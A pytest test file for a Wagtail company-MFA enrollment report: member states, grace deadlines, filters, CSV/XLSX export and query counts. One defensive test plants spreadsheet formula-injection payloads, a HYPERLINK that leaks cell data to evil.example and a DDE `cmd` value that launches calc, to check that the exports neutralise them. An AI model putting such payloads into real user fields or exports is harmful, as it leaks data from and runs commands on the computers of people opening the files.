"""
The enrollment report of a company (SPEC §3.7, §5): each member's state, the summary, filters and search,
CSV and XLSX export, and a number of SQL queries that does not grow with the number of members.
"""

from __future__ import annotations

import csv
import datetime
import io

import pytest
import time_machine
from django.contrib.auth import get_user_model
from django.db import connection
from django.test.utils import CaptureQueriesContext
from factories import PASSWORD, enroll_user, join, make_company, make_user, sign_in
from wagtail.users.models import UserProfile

from wagtail_company_mfa import crypto
from wagtail_company_mfa.base.users import display_name
from wagtail_company_mfa.companies import enrollment as reports
from wagtail_company_mfa.companies import export as report_export
from wagtail_company_mfa.models import AuthenticatorDevice, CompanyMembership
from wagtail_company_mfa.totp import algorithm as totp

pytestmark = pytest.mark.django_db

UTC = datetime.timezone.utc
NOW = datetime.datetime(2027, 3, 10, 12, 0, tzinfo=UTC)


def exempt_erin(user) -> bool:
    return user.email.startswith("erin@")


@pytest.fixture
def company(db, settings):
    """
    Required since 1 March 2027 (Amsterdam), 7 grace days for late joiners; the report is read on 10 March.
    Erin is exempt by the site's setting.
    """
    settings.WAGTAIL_COMPANY_MFA_EXEMPT_USER = "test_report.exempt_erin"
    company = make_company(
        "Acme Builders",
        require_mfa=True,
        enforcement_date=datetime.date(2027, 3, 1),
        time_zone="Europe/Amsterdam",
        new_member_grace_days=7,
    )
    early = datetime.datetime(2026, 6, 1, tzinfo=UTC)
    people = {
        # an enrolled administrator and an enrolled member
        "anna": {"role": CompanyMembership.Role.ADMIN, "joined_at": early},
        "alice": {"joined_at": early},
        # overdue since 1 March
        "olga": {"joined_at": early},
        # late joiners: until 15 March, and overdue since 9 March
        "lena": {"joined_at": datetime.datetime(2027, 3, 8, tzinfo=UTC)},
        "liam": {"joined_at": datetime.datetime(2027, 3, 2, tzinfo=UTC)},
        # exempt by the site's WAGTAIL_COMPANY_MFA_EXEMPT_USER
        "erin": {"joined_at": early},
        # inactive: not in the report
        "ivan": {"joined_at": early, "is_active": False},
    }
    for name, membership in people.items():
        user = make_user(name, first_name=name.capitalize(), last_name="Test")
        join(user, company, **membership)
    for name in ("anna", "alice"):
        enroll_user(get_user_model().objects.get(email=f"{name}@example.com"))
    AuthenticatorDevice.objects.filter(user__email="alice@example.com").update(
        last_used_at=datetime.datetime(2027, 3, 9, 8, 30, tzinfo=UTC)
    )
    return company


@pytest.fixture
def admin_client(client, company):
    admin = get_user_model().objects.get(email="anna@example.com")
    UserProfile.objects.update_or_create(user=admin, defaults={"current_time_zone": "America/New_York"})
    with time_machine.travel(NOW, tick=False):
        password_only(client, admin)
    return client


def password_only(client, user):
    # Anna has an authenticator: sign in with password and code, at the frozen time.
    from factories import password_login, verify_with_code

    password_login(client, user, PASSWORD)
    device = AuthenticatorDevice.objects.get(user=user)
    code = totp.code_at(crypto.decrypt(device.encrypted_key), NOW.timestamp())
    assert verify_with_code(client, code).status_code == 302


def report_url(company, **params) -> str:
    from urllib.parse import urlencode

    url = f"/admin/company-mfa/companies/{company.pk}/report/"
    return f"{url}?{urlencode(params)}" if params else url


def get(client, url):
    with time_machine.travel(NOW, tick=False):
        return client.get(url)


def csv_rows(response) -> list[dict]:
    content = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(content)))


def test_states(company):
    rows = reports.member_rows(reports.member_queryset(company, now=NOW), company)
    states = {row.user.first_name: row.state for row in rows}
    assert states == {
        "Anna": reports.ENROLLED,
        "Alice": reports.ENROLLED,
        "Olga": reports.OVERDUE,
        "Lena": reports.DUE,
        "Liam": reports.OVERDUE,
        "Erin": reports.EXEMPT,
    }
    deadlines = {row.user.first_name: (row.deadline, row.grace_applied) for row in rows}
    # 00:00 in Amsterdam on 1 March = 23:00 UTC the day before; late joiners get 7 days from joining.
    assert deadlines["Olga"] == (datetime.datetime(2027, 2, 28, 23, 0, tzinfo=UTC), False)
    assert deadlines["Lena"] == (datetime.datetime(2027, 3, 15, 0, 0, tzinfo=UTC), True)
    assert deadlines["Liam"] == (datetime.datetime(2027, 3, 9, 0, 0, tzinfo=UTC), True)
    summary = reports.summarize(company, now=NOW)
    assert (summary.members, summary.enrolled, summary.not_enrolled, summary.overdue, summary.due) == (
        6,
        2,
        4,
        2,
        1,
    )
    assert summary.exempt == 1


def test_policy_off_means_not_required_even_for_the_exempt(company):
    company.require_mfa = False
    company.save()
    rows = reports.member_rows(reports.member_queryset(company, now=NOW), company)
    assert {row.state for row in rows if not row.is_enrolled} == {reports.NOT_REQUIRED}
    assert all(row.deadline is None for row in rows)


def test_report_page_and_summary(admin_client, company):
    response = get(admin_client, report_url(company))
    assert response.status_code == 200
    page = response.content.decode()
    assert (
        "Since March 1, 2027, 5 members must use MFA; 2 have enrolled. 2 members are overdue. "
        "1 member is exempt by the site&#x27;s settings."
    ) in page
    for name in ("Anna Test", "Alice Test", "Olga Test", "Lena Test", "Liam Test", "Erin Test"):
        assert name in page
    assert "Ivan" not in page  # inactive members count for nothing
    assert "Grace period for a late joiner" in page
    assert "Download CSV" in page
    assert "Download XLSX" in page


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"state": "overdue"}, {"Olga", "Liam"}),
        ({"state": "due"}, {"Lena"}),
        ({"state": "enrolled"}, {"Anna", "Alice"}),
        ({"state": "not_enrolled"}, {"Olga", "Lena", "Liam", "Erin"}),
        ({"role": "admin"}, {"Anna"}),
        ({"role": "member", "state": "enrolled"}, {"Alice"}),
        ({"q": "olga"}, {"Olga"}),
        ({"q": "liam@example"}, {"Liam"}),
    ],
)
def test_filters_and_search(admin_client, company, params, expected):
    rows = csv_rows(get(admin_client, report_url(company, export="csv", **params)))
    assert {row["Name"].split()[0] for row in rows} == expected


def test_summary_counts_the_whole_company_whatever_the_filter(admin_client, company):
    page = get(admin_client, report_url(company, state="enrolled")).content.decode()
    assert "5 members must use MFA; 2 have enrolled. 2 members are overdue." in page


def test_csv_export(admin_client, company):
    response = get(admin_client, report_url(company, export="csv"))
    assert (
        response["Content-Disposition"]
        == 'attachment; filename="mfa-enrollment-acme-builders-2027-03-10.csv"'
    )
    rows = {row["Name"]: row for row in csv_rows(response)}
    assert list(next(iter(rows.values()))) == [
        "Name",
        "Username",
        "Email",
        "Role",
        "MFA",
        "Methods",
        "Overdue",
        "Deadline (America/New_York)",
        "Enrolled since (America/New_York)",
        "Last used (America/New_York)",
        "Trusted browsers",
        "Joined (America/New_York)",
    ]
    olga = rows["Olga Test"]
    assert olga["Email"] == "olga@example.com"
    assert olga["Role"] == "Member"
    assert olga["MFA"] == "Overdue"
    assert olga["Overdue"] == "Yes"
    assert olga["Deadline (America/New_York)"] == "2027-02-28 18:00"  # 23:00 UTC in New York
    assert olga["Enrolled since (America/New_York)"] == ""
    alice = rows["Alice Test"]
    assert alice["MFA"] == "Enrolled"
    assert alice["Methods"] == "Authenticator app"
    assert olga["Methods"] == "None"
    assert alice["Overdue"] == "No"
    assert alice["Last used (America/New_York)"] == "2027-03-09 03:30"
    assert rows["Anna Test"]["Role"] == "Administrator"
    assert rows["Lena Test"]["MFA"] == "Not enrolled yet"


def test_xlsx_export(admin_client, company):
    openpyxl = pytest.importorskip("openpyxl")
    response = get(admin_client, report_url(company, export="xlsx"))
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][:7] == ("Name", "Username", "Email", "Role", "MFA", "Methods", "Overdue")
    by_name = {row[0]: row for row in values[1:]}
    assert len(by_name) == 6
    assert by_name["Olga Test"][4:8] == ("Overdue", "None", "Yes", datetime.datetime(2027, 2, 28, 18, 0))
    assert by_name["Alice Test"][9] == datetime.datetime(2027, 3, 9, 3, 30)


def add_members(company, count: int, *, start: int) -> None:
    """``count`` more members, every third one enrolled, created in bulk."""
    User = get_user_model()
    fields = {} if User.USERNAME_FIELD == "email" else {"username": None}
    users = []
    for number in range(start, start + count):
        extra = {"username": f"bulk{number}"} if "username" in fields else {}
        users.append(
            User(email=f"bulk{number}@example.com", first_name=f"Bulk{number}", password="!", **extra)
        )
    User.objects.bulk_create(users)
    created = list(User.objects.filter(email__startswith="bulk").order_by("pk"))[-count:]
    CompanyMembership.objects.bulk_create(
        CompanyMembership(user=user, company=company, joined_at=datetime.datetime(2026, 6, 1, tzinfo=UTC))
        for user in created
    )
    devices = []
    for user in created[::3]:
        device = AuthenticatorDevice(user=user, name="Authenticator app", confirmed=True)
        device.set_key(totp.generate_key())
        devices.append(device)
    AuthenticatorDevice.objects.bulk_create(devices)


@pytest.mark.parametrize(
    "params",
    [{}, {"export": "csv"}, {"export": "xlsx"}, {"state": "overdue"}, {"q": "bulk", "role": "member"}],
    ids=["page", "csv", "xlsx", "overdue", "search"],
)
def test_query_count_does_not_grow_with_members(admin_client, company, params):
    # SPEC §5: the same number of queries for 10 members as for 500.
    def count_queries() -> int:
        with CaptureQueriesContext(connection) as queries:
            response = get(admin_client, report_url(company, **params))
            assert response.status_code == 200
            if response.streaming:
                b"".join(response.streaming_content)
        return len(queries)

    add_members(company, 4, start=0)  # 6 + 4 = 10 active members
    assert CompanyMembership.objects.filter(company=company, is_active=True).count() == 10
    ten = count_queries()
    add_members(company, 490, start=4)
    assert CompanyMembership.objects.filter(company=company, is_active=True).count() == 500
    five_hundred = count_queries()
    assert ten == five_hundred, (ten, five_hundred)


def test_report_of_another_company_is_not_found(admin_client, company):
    other = make_company("Bluebird")
    assert get(admin_client, report_url(other)).status_code == 404
    assert get(admin_client, report_url(other, export="csv")).status_code == 404


def test_superuser_sees_any_report(client, company):
    superuser = make_user("root", superuser=True)
    sign_in(client, superuser)
    assert client.get(report_url(company)).status_code == 200


FORMULA_TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("export", ["csv", "xlsx"])
@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_csv_formula_injection_is_neutralised_in_every_text_column(admin_client, company, trigger, export):
    """A member's own name, username or email that a spreadsheet would run as a formula is exported inert."""
    User = get_user_model()
    olga = User.objects.get(email="olga@example.com")
    name = f'{trigger}HYPERLINK("https://evil.example/?"&A1,"Click")'
    email = f"{trigger}2+3@evil.example"
    fields = {"first_name": name, "last_name": "", "email": email}
    if User.USERNAME_FIELD != "email":
        fields["username"] = f"{trigger}cmd|' /C calc'!A0"
    User.objects.filter(pk=olga.pk).update(**fields)
    olga.refresh_from_db()
    # Text that a spreadsheet could take for a formula, as the report would write it without the fix.
    payloads = {
        "Name": display_name(olga),
        "Username": olga.get_username(),
        "Email": email,
    }
    response = get(admin_client, report_url(company, export=export))
    if export == "csv":
        rows = csv_rows(response)
        cells = [(heading, value) for row in rows for heading, value in row.items()]
        olga_row = next(row for row in rows if row["Email"].endswith("evil.example"))
        exported = {heading: olga_row[heading] for heading in payloads}
    else:
        openpyxl = pytest.importorskip("openpyxl")
        workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
        values = list(workbook.active.iter_rows(values_only=True))
        headings = values[0]
        rows = [dict(zip(headings, row, strict=True)) for row in values[1:]]
        cells = [(heading, value) for row in rows for heading, value in row.items()]
        olga_row = next(row for row in rows if str(row["Email"]).endswith("evil.example"))
        exported = {heading: olga_row[heading] for heading in payloads}
        # Stored as text, never as a formula cell.
        assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)
    if export == "xlsx":
        # XML reads a carriage return back as a line feed; that is the file format, not the export.
        payloads = {heading: payload.replace("\r", "\n") for heading, payload in payloads.items()}
        email = email.replace("\r", "\n")
    for heading, payload in payloads.items():
        if payload.startswith((*FORMULA_TRIGGERS, "\n")):
            assert exported[heading] == f"'{payload}", heading
    assert exported["Email"] == f"'{email}"
    for heading, value in cells:
        assert not (isinstance(value, str) and value.startswith(tuple(FORMULA_TRIGGERS))), (heading, value)


def test_csv_formula_injection_leaves_ordinary_text_alone():
    assert report_export.neutralise_formula("Olga Test") == "Olga Test"
    assert report_export.neutralise_formula("olga@example.com") == "olga@example.com"
    assert report_export.neutralise_formula("2027-02-28 18:00") == "2027-02-28 18:00"
    assert report_export.neutralise_formula("") == ""
    assert report_export.neutralise_formula(None) is None
    assert report_export.neutralise_formula("=1+1") == "'=1+1"


ASKED: list[str] = []


def exempt_erin_counted(user) -> bool:
    ASKED.append(user.email)
    return exempt_erin(user)


exempt_erin_counted.exempt_users = lambda users: users.filter(email__startswith="erin@")  # type: ignore[attr-defined]


def test_an_exempt_rule_with_a_queryset_is_not_asked_per_member(admin_client, company, settings):
    """With ``exempt_users`` the report finds the exempt in SQL: the same states, no call per member."""
    python_states = {
        m.user.email: m.state for m in reports.member_queryset(company, now=NOW).select_related("user")
    }
    python_summary = reports.summarize(company, now=NOW)
    settings.WAGTAIL_COMPANY_MFA_EXEMPT_USER = "test_report.exempt_erin_counted"
    ASKED.clear()
    sql_states = {
        m.user.email: m.state for m in reports.member_queryset(company, now=NOW).select_related("user")
    }
    assert sql_states == python_states
    assert python_states["erin@example.com"] == reports.EXEMPT
    assert reports.summarize(company, now=NOW) == python_summary
    page = get(admin_client, report_url(company)).content.decode()
    assert "1 member is exempt by the site&#x27;s settings." in page
    rows = csv_rows(get(admin_client, report_url(company, export="csv")))
    assert {row["Email"]: row["MFA"] for row in rows}["erin@example.com"] == "Exempt"
    # Only the signed-in administrator's own requirement asks the callable (the gate, per request).
    assert set(ASKED) <= {"anna@example.com"}, ASKED
